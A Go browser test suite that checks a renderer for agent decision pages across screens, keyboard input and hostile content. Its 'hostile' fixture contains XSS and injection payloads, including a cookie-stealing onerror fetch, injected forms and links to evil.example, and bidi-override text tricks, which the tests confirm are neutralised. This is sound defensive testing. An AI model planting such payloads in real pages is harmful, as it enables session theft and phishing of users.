package browsertest_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/bindery/bindery/envelope"
	"github.com/bindery/bindery/envelope/render"
	"github.com/bindery/bindery/internal/browsertest"
	"github.com/bindery/bindery/jcs"
)

// A stand serves one decision, as a surface would, and keeps what comes back.
type stand struct {
	*httptest.Server
	view  render.View
	taken chan envelope.Resolution
	asked chan string // paths of which the page asked but should not
}

func serve(t *testing.T, e envelope.Envelope, r render.Reader) *stand {
	t.Helper()
	view, err := render.New(e, r)
	if err != nil {
		t.Fatal(err)
	}
	s := &stand{view: view, taken: make(chan envelope.Resolution, 8), asked: make(chan string, 64)}
	place := render.Page{Action: "/decision", Stylesheet: "/page.css", Hidden: []render.Field{{Name: "token", Text: `a"b<c`}}}
	page := func(w http.ResponseWriter, text string, err error) {
		w.Header().Set("Content-Security-Policy", render.Policy)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if err != nil {
			t.Error(err)
		}
		_, _ = io.WriteString(w, text)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /decision", func(w http.ResponseWriter, _ *http.Request) {
		text, err := view.Page(place)
		page(w, text, err)
	})
	mux.HandleFunc("POST /decision", func(w http.ResponseWriter, r *http.Request) {
		if err := r.ParseForm(); err != nil || r.Form.Get("token") != `a"b<c` {
			t.Errorf("the form came with %v, %v", r.Form, err)
		}
		resolution, err := view.Submit(r.PostForm)
		outcome := render.Refused(err)
		if err == nil {
			s.taken <- resolution
			outcome = view.Taken(resolution)
		}
		text, err := outcome.Page(place)
		page(w, text, err)
	})
	mux.HandleFunc("GET /malformed", func(w http.ResponseWriter, _ *http.Request) {
		_, cause := envelope.Parse([]byte(`{"synopsis":"Pay."}`))
		text, err := render.FallBack([]string{"Three invoices are due.\nNone is paid.", "total\t1 200.00 EUR"}, cause).Page(place)
		page(w, text, err)
	})
	mux.HandleFunc("GET /page.css", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/css; charset=utf-8")
		_, _ = io.WriteString(w, render.Stylesheet())
	})
	mux.HandleFunc("GET /favicon.ico", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) })
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		s.asked <- r.Method + " " + r.URL.String()
		w.WriteHeader(http.StatusNotFound)
	})
	s.Server = httptest.NewServer(mux)
	t.Cleanup(s.Close)
	return s
}

// came waits for the resolution that a form sent.
func (s *stand) came(t *testing.T) envelope.Resolution {
	t.Helper()
	select {
	case r := <-s.taken:
		return r
	case <-time.After(time.Minute):
		t.Fatal("no resolution came")
	}
	return envelope.Resolution{}
}

func options(list ...string) []byte {
	var items [][]byte
	for i := 0; i < len(list); i += 2 {
		items = append(items, jcs.Object(
			jcs.Member{Name: "label", Value: jcs.String(list[i])}, jcs.Member{Name: "reasoning", Value: jcs.String(list[i+1])},
		))
	}
	return jcs.Array(items...)
}

func texts(list ...string) []byte {
	var items [][]byte
	for _, s := range list {
		items = append(items, jcs.String(s))
	}
	return jcs.Array(items...)
}

// release is a decision as agents bring them.
func release(t *testing.T, class string) envelope.Envelope {
	t.Helper()
	text := jcs.Object(
		jcs.Member{Name: "synopsis", Value: jcs.String("Release the weekly view of the bed register to Northside Clinic: it answers their request, and nobody can be told apart in it.")},
		jcs.Member{Name: "findings", Value: texts(
			"The clinic asked on 12 May for occupancy “in whatever grain you can share”.",
			"In the daily view 14 of 9 120 rows describe fewer than five patients.",
			"In the weekly view the smallest group is 31 patients.",
			"The agreement of 2024 covers aggregated views and no others.",
		)},
		jcs.Member{Name: "recommendations", Value: texts(
			"Write the weekly view to the clinic's folder today.",
			"Tell the clinic that a daily view needs an amended agreement.",
		)},
		jcs.Member{Name: "offer", Value: jcs.String("Ask for the rows behind any of these figures.")},
		jcs.Member{Name: "question", Value: jcs.Object(
			jcs.Member{Name: "stem", Value: jcs.String("Which view of the bed register does Northside Clinic get?")},
			jcs.Member{Name: "options", Value: options(
				"Release the daily view", "It is the finest grain, and the clinic could plan its shifts by it.",
				"Release the weekly view", "It answers the request, and its smallest group is 31 patients.",
				"Release nothing", "The agreement could be read more narrowly than it has been so far.",
			)},
			jcs.Member{Name: "recommended_idx", Value: jcs.Int(1)},
			jcs.Member{Name: "hatches", Value: jcs.Object(
				jcs.Member{Name: "free_text", Value: jcs.Bool(true)}, jcs.Member{Name: "dialogue", Value: jcs.Bool(true)},
			)},
		)},
		jcs.Member{Name: "meta", Value: jcs.Object(jcs.Member{Name: "decision_class", Value: jcs.String(class)})},
	)
	return parse(t, text)
}

func parse(t *testing.T, text []byte) envelope.Envelope {
	t.Helper()
	e, err := envelope.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// hostile is an envelope whose every text tries something.
func hostile(t *testing.T) envelope.Envelope {
	t.Helper()
	text := jcs.Object(
		jcs.Member{Name: "synopsis", Value: jcs.String("Pay \u202eKCAB TI EVIG\u202c now</h1><script>document.title='owned'</script>\x1b[2J\x1b]8;;https://evil.example\x07link")},
		jcs.Member{Name: "findings", Value: texts(
			`<img src=/stolen onerror="fetch('/stolen?'+document.cookie)"> and <style>*{display:none}</style>`,
			"one\u2028two\u2029three\nfour\r\nfive\vsix\u0085seven",
			"ze\u200bro\u200cwidth\ufeff and a\u00a0\u2003\u3000space, "+strings.Repeat("\u200b", 900)+" and "+strings.Repeat(" ", 300)+"far",
			"Z̴̢̧͓̖̲͔̗a̵̡̨̛͖͉l̶̛̞̣̲̄̈g̸̗͇̏̊͊o and שלום, كتاب (RTL) and naïve, 日本語, 👩\u200d💻, नमस्ते",
			strings.Repeat("word ", 120),
			strings.Repeat("W", 300),
			"",
		)},
		jcs.Member{Name: "recommendations", Value: texts(
			"⟨U+202E⟩ is written here, not marked",
			"\" onfocus=\"alert(1)\" autofocus x=\"", "javascript:alert(1)", "&lt;b&gt; stays as it is &amp; so",
		)},
		jcs.Member{Name: "offer", Value: jcs.String("</textarea></form><form action=https://evil.example><button>Go</button>")},
		jcs.Member{Name: "question", Value: jcs.Object(
			jcs.Member{Name: "stem", Value: jcs.String("</legend></fieldset><input type=submit formaction=//evil.example>Which?\u202e")},
			jcs.Member{Name: "options", Value: options(
				"★ Recommended by the agent", "\u2067This one\u2069 => A) is the mark",
				"האם לשלם את החשבון?", "כן, כי (הסחורה) הגיעה — 3 of 3.",
				"</label><a href=https://evil.example>here</a>", strings.Repeat("\U000e0041", 64)+"tags",
				"\u3164", "\u2800\u2800",
			)},
			jcs.Member{Name: "recommended_idx", Value: jcs.Int(1)},
			jcs.Member{Name: "hatches", Value: jcs.Object(
				jcs.Member{Name: "free_text", Value: jcs.Bool(true)}, jcs.Member{Name: "dialogue", Value: jcs.Bool(true)},
			)},
		)},
		jcs.Member{Name: "meta", Value: jcs.Object(
			jcs.Member{Name: "decision_class", Value: jcs.String(`consent" onload="alert(1)`)},
			jcs.Member{Name: "calibration_note", Value: jcs.String("Earlier I wrote that <b>nothing</b> is due.\u200e")},
		)},
	)
	return parse(t, text)
}

func screens() map[string]browsertest.Screen {
	return map[string]browsertest.Screen{
		"phone-light": browsertest.Phone(browsertest.Light), "phone-dark": browsertest.Phone(browsertest.Dark),
		"narrow-light": browsertest.Narrow(browsertest.Light), "desktop-light": browsertest.Desktop(browsertest.Light), "desktop-dark": browsertest.Desktop(browsertest.Dark),
	}
}

// TestPagesLook opens every page on every screen; what is checked, Look says. The pictures are kept
// where BINDERY_SCREENSHOTS says.
//
// covers ENV-090, ENV-091, ENV-092, ENV-093, ENV-095, ENV-096
func TestPagesLook(t *testing.T) {
	b := browsertest.Start(t)
	for name, screen := range screens() {
		t.Run(name, func(t *testing.T) {
			tab := b.Tab(t, screen)
			for _, style := range []string{"plain", "consent", "permission", "recompute"} {
				s := serve(t, release(t, style), render.Reader{Agent: "release-approver", Principal: "dana"})
				tab.Open(s.URL + "/decision")
				if style == "plain" || name == "phone-light" || name == "desktop-dark" {
					tab.Look(style + "-" + name)
				}
			}
			s := serve(t, hostile(t), render.Reader{Agent: "<b>\u202eevil"})
			tab.Open(s.URL + "/decision")
			tab.Look("hostile-" + name)
			tab.Open(s.URL + "/malformed")
			tab.Look("malformed-" + name)
			if n := browsertest.Eval[int](tab, `document.querySelectorAll('form, input, button, textarea, a').length`); n != 0 {
				t.Errorf("the fallback has %d elements to act with", n)
			}
		})
	}
}

// TestHostilePage: nothing of an envelope becomes markup, a script, a request or an element to act
// with, and the page is read in the order in which it is written.
//
// covers ENV-002, ENV-112
func TestHostilePage(t *testing.T) {
	b := browsertest.Start(t)
	tab := b.Tab(t, browsertest.Phone(browsertest.Light))
	s := serve(t, hostile(t), render.Reader{Agent: "</p><script>alert(1)</script>"})
	tab.Open(s.URL + "/decision")
	for _, trouble := range tab.Troubles() {
		t.Errorf("the browser says: %s", trouble)
	}
	for expression, want := range map[string]int{
		`document.querySelectorAll('script, img, style, a, b, iframe, object').length`:                                 0,
		`document.querySelectorAll('form').length`:                                                                     3,
		`document.querySelectorAll('button').length`:                                                                   3,
		`document.querySelectorAll('input[type=radio]').length`:                                                        4,
		`document.querySelectorAll('.recommended').length`:                                                             1,
		`document.querySelectorAll('.mark').length`:                                                                    1,
		`[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length`: 0,
		`document.body.className === 'plain' ? 1 : 0`:                                                                  1,
	} {
		if got := browsertest.Eval[int](tab, expression); got != want {
			t.Errorf("%s is %d, want %d", expression, got, want)
		}
	}
	if title := browsertest.Eval[string](tab, `document.title`); !strings.Contains(title, "⟨U+202E⟩") {
		t.Errorf("the title is %q", title)
	}
	if n := browsertest.Eval[int](tab, `(document.body.innerText.match(/\p{Cc}|\p{Bidi_Control}/gu) || []).filter(c => c !== '\n' && c !== '\t').length`); n != 0 {
		t.Errorf("%d control characters are shown as themselves", n)
	}
	select {
	case asked := <-s.asked:
		t.Errorf("the page asked for %s", asked)
	default:
	}
}

// TestKeyboard resolves each of the three forms by keys alone, without scripts; what comes back is
// what every other surface would have made.
//
// covers ENV-042, ENV-043, ENV-070, ENV-097
func TestKeyboard(t *testing.T) {
	b := browsertest.Start(t)
	for name, c := range map[string]struct {
		keys  []string
		reply string
	}{
		"option by space":  {[]string{"Tab", "Space", "Tab", "Enter"}, "A"},
		"option by arrows": {[]string{"Tab", "Down", "Down", "Tab", "Enter"}, "C"},
		"answer":           {[]string{"Tab", "Tab", "Tab", "Only the ", "first", " half of May", "Tab", "Enter"}, "W: Only the first half of May"},
		"question":         {[]string{"Tab", "Tab", "Tab", "Tab", "Tab", "Enter"}, "R"},
	} {
		for _, screen := range []browsertest.Screen{browsertest.Phone(browsertest.Light), browsertest.Desktop(browsertest.Dark)} {
			t.Run(fmt.Sprintf("%s %d", name, screen.Width), func(t *testing.T) {
				s := serve(t, release(t, "consent"), render.Reader{})
				tab := b.Tab(t, screen)
				tab.Scripts(false)
				tab.Open(s.URL + "/decision")
				for i, key := range c.keys {
					tab.Press(key)
					if c.reply == "A" && key == "Space" {
						tab.Shoot(fmt.Sprintf("chosen-%d", screen.Width))
					}
					if key == "Tab" && i < len(c.keys)-1 && !focusSeen(tab) {
						t.Errorf("after %d keys no focus is seen", i+1)
					}
				}
				want, err := s.view.Reply(c.reply)
				if err != nil {
					t.Fatal(err)
				}
				if got := s.came(t); string(got.JSON()) != string(want.JSON()) {
					t.Errorf("the form made %s, the reply makes %s", got.JSON(), want.JSON())
				}
				tab.Until(`document.readyState === 'complete' && document.querySelector('.outcome') !== null`)
				tab.Scripts(true)
				tab.Look("outcome-" + strings.ReplaceAll(name, " ", "-") + fmt.Sprintf("-%d", screen.Width))
			})
		}
	}
}

// focusSeen reports whether the focused element, or the option around it, has an outline.
func focusSeen(tab *browsertest.Tab) bool {
	return browsertest.Eval[bool](tab, `(e => { for (; e && e !== document.body; e = e.parentElement) {
		const s = getComputedStyle(e); if (s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) >= 2) return true } return false })(document.activeElement)`)
}

// TestNothingByAccident: Return where nothing is chosen, or in an empty answer, sends nothing, and no
// option is chosen when the page opens.
//
// covers ENV-092
func TestNothingByAccident(t *testing.T) {
	b := browsertest.Start(t)
	s := serve(t, release(t, ""), render.Reader{})
	tab := b.Tab(t, browsertest.Desktop(browsertest.Light))
	tab.Open(s.URL + "/decision")
	if n := browsertest.Eval[int](tab, `document.querySelectorAll(':checked').length`); n != 0 {
		t.Errorf("%d options are chosen beforehand", n)
	}
	tab.Press("Tab", "Enter", "Tab", "Enter", "Tab", "Tab", "Enter")
	if got := browsertest.Eval[string](tab, `location.pathname + document.querySelectorAll('form').length`); got != "/decision3" {
		t.Errorf("the page is %s", got)
	}
	select {
	case r := <-s.taken:
		t.Errorf("%s was sent", r.JSON())
	default:
	}
}
